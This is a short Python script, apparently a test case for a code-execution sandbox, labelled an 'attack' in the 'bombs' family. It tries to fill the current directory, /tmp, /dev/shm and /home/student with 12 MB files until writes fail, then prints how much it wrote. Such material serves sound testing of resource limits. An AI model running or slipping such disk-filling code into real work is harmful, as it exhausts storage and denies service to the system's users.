# /// attack
# title = "Fills every place it can write to"
# family = "bombs"
# apart = ["wrote 100 MB"]
# ///
# ruff: noqa

# %% work_number
import os

answer, total = 1.0, 0
for folder in (".", "/tmp", "/dev/shm", "/home/student"):
    for number in range(10):
        try:
            with open(f"{folder}/fill-{number}", "wb", buffering=0) as file:
                while file.tell() < 12_000_000:
                    total += file.write(b"x" * 1_000_000)
        except OSError:
            break
print("wrote", total // 100_000_000 * 100, "MB")
